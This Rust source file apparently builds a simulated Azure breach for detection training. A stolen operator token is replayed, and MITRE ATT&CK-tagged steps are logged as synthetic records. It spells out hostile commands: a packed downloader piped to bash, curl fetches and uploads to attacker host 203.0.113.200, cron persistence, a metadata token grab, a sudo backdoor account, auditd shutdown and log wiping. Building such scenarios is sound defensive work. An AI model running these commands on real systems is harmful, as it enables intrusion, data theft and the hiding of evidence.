//! Thursday: the operator's token is used from somewhere else.

use super::background::{grant, setting_resource};
use super::cast::{
    APP, Cast, DATA, DAY, DB, INTRUDER, OFFICE, PRODUCTION, WEB, data, machine, shop,
};
use crate::case::base64;
use crate::cloud::catalogue as kinds;
use crate::instant::Instant;
use crate::json::{Hand, Json, object};
use crate::plan::{Call, Invoked, Plan, Way, Work};
use crate::world::{Client, Log, Trace};
use flate2::{Compression, GzBuilder};
use std::collections::BTreeSet;
use std::io::Write;

/// The whole of it.
pub fn fill(plan: &mut Plan, cast: Cast) {
    let day = DAY.plus_days(3);
    let theirs = plan.token(
        cast.operator,
        Client::CommandLine,
        Some(OFFICE),
        day.at(8, 31, 5),
        None,
    );
    // The operator at work with the token that is about to be used elsewhere.
    let by_operator = Call {
        token: theirs,
        address: OFFICE,
        hostile: false,
    };
    let web = machine(plan, WEB);
    plan.call(
        by_operator,
        &kinds::BOOT_DIAGNOSTICS,
        PRODUCTION,
        &web,
        day.at(8, 33, 50),
    );
    let replayed = Call {
        token: theirs,
        address: INTRUDER,
        hostile: true,
    };
    look_around(plan, replayed, day);
    on_web(plan, replayed, day);
    // The token ran out; the session did not.
    let refreshed = Call {
        token: plan.token(
            cast.operator,
            Client::CommandLine,
            Some(INTRUDER),
            day.at(9, 33, 12),
            Some(theirs),
        ),
        address: INTRUDER,
        hostile: true,
    };
    let wiped = on_app(plan, refreshed, day);
    on_data(plan, refreshed, day);
    let later = Call {
        token: plan.token(
            cast.operator,
            Client::CommandLine,
            Some(INTRUDER),
            day.at(10, 28, 2),
            Some(theirs),
        ),
        ..refreshed
    };
    blind(plan, later, day);
    clean_up(plan, later, day, wiped);
    afterwards(plan, cast, theirs, day);
}

fn look_around(plan: &mut Plan, by: Call, day: Instant) {
    let group =
        shop(plan, "Microsoft.AzureTerraform").replace("/providers/Microsoft.AzureTerraform", "");
    let inventory = plan.call(
        by,
        &kinds::EXPORT_TERRAFORM,
        PRODUCTION,
        &group,
        day.at(9, 2, 17),
    );
    plan.step(
        "The stolen token is used from a foreign address: an inventory of the group is exported",
        &["T1078.004", "T1526"],
        Some(inventory),
        None,
    );
    let site = shop(plan, "Microsoft.Web/sites/shop-front/config/appsettings");
    let settings = plan.call(
        by,
        &kinds::SITE_CONFIG_LIST,
        PRODUCTION,
        &site,
        day.at(9, 3, 2),
    );
    plan.step(
        "Application settings of the shop are read",
        &["T1552"],
        Some(settings),
        None,
    );
    let account = shop(plan, "Microsoft.Storage/storageAccounts/stshopprod");
    let keys = plan.call(
        by,
        &kinds::LIST_KEYS,
        PRODUCTION,
        &account,
        day.at(9, 4, 11),
    );
    plan.step(
        "Keys of a storage account are listed",
        &["T1555.006"],
        Some(keys),
        None,
    );
}

fn run(
    plan: &mut Plan,
    title: &'static str,
    attack: &'static [&'static str],
    invoked: Option<Invoked>,
) {
    plan.step(
        title,
        attack,
        invoked.map(|it| it.operation),
        invoked.map(|it| it.run),
    );
}

fn on_web(plan: &mut Plan, by: Call, day: Instant) {
    let recon = Work::new(
        include_str!("scripts/recon.sh"),
        "root\nuid=0(root) gid=0(root) groups=0(root)\nweb01\nLinux web01 6.5.0-1018-azure #19~22.04.2-Ubuntu SMP x86_64 GNU/Linux\nPRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\n    inet 127.0.0.1/8 scope host lo\n    inet 10.20.1.4/24 metric 100 brd 10.20.1.255 scope global eth0\nState  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\nLISTEN 0      511          0.0.0.0:80        0.0.0.0:*     users:((\"nginx\",pid=1102,fd=6))\nLISTEN 0      128          0.0.0.0:22        0.0.0.0:*     users:((\"sshd\",pid=812,fd=3))\nroot:0:/bin/bash\nopsadmin:1000:/bin/bash\n/root/.ssh:\ntotal 8\n",
        260,
    )
    .starts(2, "/usr/bin/whoami", &["whoami"])
    .starts(4, "/usr/bin/id", &["id"])
    .starts(6, "/usr/bin/hostname", &["hostname"])
    .starts(9, "/usr/bin/uname", &["uname", "-a"])
    .starts(40, "/usr/bin/ss", &["ss", "-tlnp"]);
    let invoked = plan.invoke(by, WEB, Way::Action, recon, day.at(9, 6, 12));
    if let Some(run) = invoked.and_then(|it| plan.world.runs.get_mut(it.run)) {
        run.stdout_emptied = Some(day.at(11, 5, 31));
    }
    run(
        plan,
        "Reconnaissance on web01",
        &["T1651", "T1033", "T1082", "T1049"],
        invoked,
    );

    let packed = base64(&gzip(include_bytes!("scripts/stage.sh")));
    let first = Work::new(
        &format!("echo {packed} | base64 -d | gunzip | bash\n"),
        "helper up: 4188\n",
        2_300,
    )
    .starts(3, "/usr/bin/base64", &["base64", "-d"])
    .starts(4, "/usr/bin/gunzip", &["gunzip"])
    .starts(
        30,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsSL",
            "http://203.0.113.200/a/agent-x64",
            "-o",
            "/var/tmp/.systemd-private/dbus-helper",
        ],
    )
    .starts(
        2_200,
        "/var/tmp/.systemd-private/dbus-helper",
        &[
            "/var/tmp/.systemd-private/dbus-helper",
            "--server",
            "203.0.113.200:443",
        ],
    );
    let invoked = plan.invoke(by, WEB, Way::Action, first, day.at(9, 11, 40));
    run(
        plan,
        "A packed downloader fetches and starts a program on web01",
        &["T1651", "T1027", "T1105"],
        invoked,
    );

    let jump = shop(plan, "Microsoft.Compute/virtualMachines/jump01");
    let refused = plan.call(
        by,
        &kinds::RUN_COMMAND,
        PRODUCTION,
        &jump,
        day.at(9, 17, 33),
    );
    plan.refuse(
        refused,
        409,
        "OperationNotAllowed",
        "The operation requires the VM to be running (or set to run).",
    );
    plan.step(
        "A run command on jump01 fails: the machine is deallocated",
        &["T1651"],
        Some(refused),
        None,
    );

    let persist = Work::new(include_str!("scripts/persist.sh"), "1\n", 420)
        .starts(2, "/usr/bin/mkdir", &["mkdir", "-p", "/root/.ssh"])
        .starts(
            60,
            "/usr/sbin/useradd",
            &["useradd", "-m", "-s", "/bin/bash", "svc-metrics"],
        )
        .starts(
            210,
            "/usr/sbin/usermod",
            &["usermod", "-aG", "sudo", "svc-metrics"],
        );
    let invoked = plan.invoke(by, WEB, Way::Action, persist, day.at(9, 24, 5));
    if let Some(at) = invoked
        .and_then(|it| plan.world.runs.get(it.run))
        .map(|it| it.started)
    {
        for (after, tag, text) in [
            (90, "useradd[4402]", "new group: name=svc-metrics, GID=1001"),
            (
                92,
                "useradd[4402]",
                "new user: name=svc-metrics, UID=1001, GID=1001, home=/home/svc-metrics, shell=/bin/bash, from=none",
            ),
            (240, "usermod[4409]", "add 'svc-metrics' to group 'sudo'"),
            (
                241,
                "usermod[4409]",
                "add 'svc-metrics' to shadow group 'sudo'",
            ),
        ] {
            plan.remark(WEB, Log::Auth, at.plus_ms(after), tag, text);
        }
        let mut next = day.at(9, 30, 1);
        let mut process = 4_500;
        while next < day.at(14, 30, 0) {
            plan.remark(
                WEB,
                Log::System,
                next,
                format!("CRON[{process}]"),
                "(root) CMD (curl -fsSL http://203.0.113.200/a/keepalive.sh | bash)",
            );
            next = next.plus_seconds(600);
            process += 31;
        }
    }
    run(
        plan,
        "Cron job, ssh key and account on web01",
        &["T1651", "T1053.003", "T1098.004", "T1136.001"],
        invoked,
    );

    let object_id = plan.random().guid();
    let refused = grant(
        plan,
        by,
        &object_id,
        "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
        day.at(9, 28, 44),
    );
    plan.refuse(refused, 403, "AuthorizationFailed", "The client does not have authorization to perform action 'Microsoft.Authorization/roleAssignments/write' over scope or the scope is invalid.");
    plan.step(
        "Granting the Owner role is refused",
        &["T1098.003"],
        Some(refused),
        None,
    );
}

fn on_app(plan: &mut Plan, by: Call, day: Instant) -> Option<Invoked> {
    let identity = Work::new(include_str!("scripts/identity.sh"), "{\"compute\":{\"azEnvironment\":\"AzurePublicCloud\",\"name\":\"app01\"}}{\"access_token\":\"eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.example\"}\n", 700)
        .starts(3, "/usr/bin/curl", &["curl", "-s", "-H", "Metadata:true", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"]);
    let wiped = plan.invoke(by, APP, Way::Action, identity, day.at(9, 34, 26));
    if let Some(invoked) = wiped {
        plan.wipe(invoked.run);
    }
    run(
        plan,
        "The machine's identity is asked for a token on app01 (traces wiped later)",
        &["T1651", "T1552.005"],
        wiped,
    );

    let exfil = Work::new(
        include_str!("scripts/exfil.sh"),
        "sent part.aa\nsent part.ab\nsent part.ac\n",
        33_000,
    )
    .starts(
        8,
        "/usr/bin/tar",
        &[
            "tar",
            "czf",
            "/tmp/.sync.k3Vd0a/orders.tgz",
            "/opt/orders/config",
            "/etc/orders",
        ],
    )
    .starts(
        2_400,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsS",
            "-T",
            "/tmp/.sync.k3Vd0a/part.aa",
            "https://203.0.113.200/u/app01/",
            "-k",
        ],
    )
    .starts(32_600, "/usr/bin/rm", &["rm", "-rf", "/tmp/.sync.k3Vd0a"]);
    let invoked = plan.invoke(
        by,
        APP,
        Way::Managed("AzureMonitorSync"),
        exfil,
        day.at(9, 40, 51),
    );
    run(
        plan,
        "Configuration leaves app01 by a managed run command that is named like a service",
        &["T1651", "T1036", "T1048"],
        invoked,
    );
    let resource = format!("{}/runCommands/AzureMonitorSync", machine(plan, APP));
    let removed = plan.call(
        by,
        &kinds::RUN_COMMANDS_DELETE,
        PRODUCTION,
        &resource,
        day.at(10, 21, 8),
    );
    if let Some(run) = invoked.and_then(|it| plan.world.runs.get_mut(it.run)) {
        run.removed = Some(day.at(10, 21, 13));
    }
    plan.step(
        "The managed run command is deleted, 41 minutes after it was made",
        &["T1070.004"],
        Some(removed),
        None,
    );
    wiped
}

fn on_data(plan: &mut Plan, by: Call, day: Instant) {
    let dump = Work::new(
        include_str!("scripts/dump.sh"),
        "-rw-r--r--. 1 postgres postgres 48211734 May  2 11:52 /var/tmp/.pg.dump\n",
        11_000,
    )
    .starts(
        5,
        "/usr/bin/sudo",
        &[
            "sudo",
            "-u",
            "postgres",
            "pg_dump",
            "--format=custom",
            "--file=/var/tmp/.pg.dump",
            "orders",
        ],
    );
    let invoked = plan.invoke(by, DB, Way::Action, dump, day.at(9, 52, 18));
    if let Some(at) = invoked
        .and_then(|it| plan.world.runs.get(it.run))
        .map(|it| it.started)
    {
        plan.remark(DB, Log::Auth, at.plus_ms(15), "sudo", "root : PWD=/var/lib/waagent/run-command/download/3 ; USER=postgres ; COMMAND=/bin/pg_dump --format=custom --file=/var/tmp/.pg.dump orders");
    }
    run(
        plan,
        "The database is dumped on db01",
        &["T1651", "T1005"],
        invoked,
    );

    let rule = shop(
        plan,
        "Microsoft.Network/networkSecurityGroups/nsg-shop/securityRules/allow-ssh-any",
    );
    let opened = plan.call(
        by,
        &kinds::SECURITY_RULE_WRITE,
        PRODUCTION,
        &rule,
        day.at(10, 5, 29),
    );
    let body = object([(
        "properties",
        object([
            ("protocol", "Tcp".into()),
            ("sourcePortRange", "*".into()),
            ("destinationPortRange", "22".into()),
            ("sourceAddressPrefix", "*".into()),
            ("destinationAddressPrefix", "*".into()),
            ("access", "Allow".into()),
            ("priority", 110.into()),
            ("direction", "Inbound".into()),
        ]),
    )])
    .print(Hand::Compact);
    plan.amend(opened, |it| {
        it.request_body = Some(body.clone());
        it.response_body = Some(body);
    });
    plan.step(
        "Port 22 is opened to everybody",
        &["T1562.007"],
        Some(opened),
        None,
    );

    extension(plan, by, day);

    let snapshot = data(plan, "Microsoft.Compute/snapshots/db01-tmp");
    let made = plan.call(
        by,
        &kinds::SNAPSHOT_WRITE,
        DATA,
        &snapshot,
        day.at(10, 30, 2),
    );
    plan.step(
        "A snapshot of db01's disk is made",
        &["T1578.001"],
        Some(made),
        None,
    );
    let link = plan.call(
        by,
        &kinds::SNAPSHOT_ACCESS,
        DATA,
        &snapshot,
        day.at(10, 31, 40),
    );
    plan.step(
        "A download link for the snapshot is made",
        &["T1537"],
        Some(link),
        None,
    );
}

fn extension(plan: &mut Plan, by: Call, day: Instant) {
    let file_uri = "http://203.0.113.200/a/hotfix.sh".to_owned();
    let command = "bash hotfix.sh".to_owned();
    let settings = object([
        ("fileUris", Json::List(vec![file_uri.clone().into()])),
        ("commandToExecute", command.clone().into()),
    ]);
    let work = Work::new(
        include_str!("scripts/hotfix.sh"),
        "",
        1_300,
    )
    .failing(0, "Created symlink /etc/systemd/system/multi-user.target.wants/dbus-helper.service → /etc/systemd/system/dbus-helper.service.\n")
    .starts(4, "/usr/bin/systemctl", &["systemctl", "stop", "auditd"])
    .starts(120, "/usr/sbin/iptables", &["iptables", "-I", "INPUT", "-s", "203.0.113.0/24", "-j", "ACCEPT"]);
    let way = Way::Extension {
        name: "hotfix",
        command,
        file_uri,
    };
    let invoked = plan.invoke(by, WEB, way, work, day.at(10, 12, 9));
    if let Some(invoked) = invoked {
        let body = object([
            ("name", "hotfix".into()),
            (
                "properties",
                object([
                    ("publisher", "Microsoft.Azure.Extensions".into()),
                    ("type", "CustomScript".into()),
                    ("typeHandlerVersion", "2.1".into()),
                    ("autoUpgradeMinorVersion", true.into()),
                    ("settings", settings),
                    ("provisioningState", "Creating".into()),
                ]),
            ),
        ])
        .print(Hand::Compact);
        plan.amend(invoked.operation, |it| it.response_body = Some(body));
        if let Some(at) = plan.world.runs.get(invoked.run).map(|it| it.started) {
            plan.remark(
                WEB,
                Log::System,
                at.plus_ms(900),
                "systemd[1]",
                "Started D-Bus helper.",
            );
        }
    }
    run(
        plan,
        "A custom script extension installs a service on web01",
        &["T1651", "T1543.002", "T1562.001"],
        invoked,
    );
}

fn blind(plan: &mut Plan, by: Call, day: Instant) {
    for (subscription, minute) in [(PRODUCTION, 40), (DATA, 42)] {
        let resource = setting_resource(plan, subscription);
        let deleted = plan.call(
            by,
            &kinds::DIAGNOSTIC_SETTING_DELETE,
            subscription,
            &resource,
            day.at(10, minute, 3),
        );
        plan.step(
            "The export of the activity log is switched off",
            &["T1562.008"],
            Some(deleted),
            None,
        );
    }
}

fn clean_up(plan: &mut Plan, by: Call, day: Instant, wiped: Option<Invoked>) {
    let etag = wiped
        .and_then(|it| plan.world.runs.get(it.run))
        .map_or(0, |it| it.goal_state.number);
    let script = include_str!("scripts/wipe-app.sh").replace("@ETAG@", &etag.to_string());
    let work = Work::new(&script, "", 350)
        .starts(
            3,
            "/usr/bin/rm",
            &["rm", "-rf", "/var/lib/waagent/run-command/download/4"],
        )
        .starts(
            40,
            "/usr/bin/sed",
            &[
                "sed",
                "-i",
                "-e",
                "/seq=4 /d",
                "-e",
                "/status\\/4\\.status/d",
                "/var/log/azure/run-command/handler.log",
            ],
        );
    let invoked = plan.invoke(by, APP, Way::Action, work, day.at(10, 58, 30));
    run(
        plan,
        "The traces of one run are cut out of app01's logs",
        &["T1651", "T1070.004"],
        invoked,
    );

    let work = Work::new(include_str!("scripts/wipe-web.sh"), "cleaned\n", 600)
        .starts(9, "/usr/bin/shred", &["shred", "-u", "/root/.bash_history"])
        .starts(
            30,
            "/usr/bin/touch",
            &["touch", "-d", "2024-04-30 10:00", "/etc/cron.d/systemd-tmp"],
        )
        .starts(
            500,
            "/usr/bin/rm",
            &[
                "rm",
                "-f",
                "--",
                "/var/lib/waagent/run-command/download/8/script.sh",
            ],
        );
    let invoked = plan.invoke(by, WEB, Way::Action, work, day.at(11, 5, 14));
    if let Some(run) = invoked.and_then(|it| plan.world.runs.get_mut(it.run)) {
        run.lost = BTreeSet::from([Trace::Script]);
    }
    run(
        plan,
        "A script empties an output on web01 and deletes itself",
        &["T1651", "T1070.004", "T1070.006"],
        invoked,
    );
}

/// After the query was made: only the guest knows.
fn afterwards(plan: &mut Plan, cast: Cast, theirs: usize, day: Instant) {
    let by = Call {
        token: plan.token(
            cast.operator,
            Client::CommandLine,
            Some(INTRUDER),
            day.at(13, 0, 40),
            Some(theirs),
        ),
        address: INTRUDER,
        hostile: true,
    };
    let work = Work::new(include_str!("scripts/late.sh"), "0\n", 8_000).starts(
        3,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsS",
            "-T",
            "/var/tmp/.pg.dump",
            "-k",
            "https://203.0.113.200/u/db01/",
        ],
    );
    let invoked = plan.invoke(by, DB, Way::Action, work, day.at(13, 5, 27));
    run(
        plan,
        "The dump leaves db01, after the cloud export ended",
        &["T1651", "T1048"],
        invoked,
    );
    for (second, text) in [
        (
            0,
            "Accepted publickey for root from 203.0.113.77 port 51544 ssh2: ED25519 SHA256:ExampleFingerprintOfNobodyExampleFingerprint",
        ),
        (
            1,
            "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
        ),
        (752, "pam_unix(sshd:session): session closed for user root"),
    ] {
        plan.remark(
            WEB,
            Log::Auth,
            day.at(13, 21, 8 + second),
            "sshd[5873]",
            text,
        );
    }
}

/// gzip without a name or a time, so that it depends on its content alone.
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packer = GzBuilder::new().write(Vec::new(), Compression::best());
    // Writing to memory does not fail; if it did, the script would be empty and every test of it would say so.
    packer
        .write_all(bytes)
        .and_then(|()| packer.finish())
        .unwrap_or_default()
}
